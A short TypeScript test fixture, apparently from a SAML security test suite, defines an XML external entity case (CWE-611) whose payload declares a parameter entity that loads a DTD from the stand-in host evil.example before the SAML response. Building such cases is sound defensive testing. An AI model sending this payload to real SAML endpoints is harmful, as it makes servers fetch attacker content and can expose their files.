/** The server would fetch an address of the attacker. */
import type { SamlCase } from './kit.js';

export const attack: SamlCase = {
  name: 'an external parameter entity',
  source: 'CWE-611',
  check: 'saml.doctype',
  build: (kit) => `<!DOCTYPE r [<!ENTITY % x SYSTEM "https://evil.example/x.dtd"> %x;]>${kit.answer()}`,
};
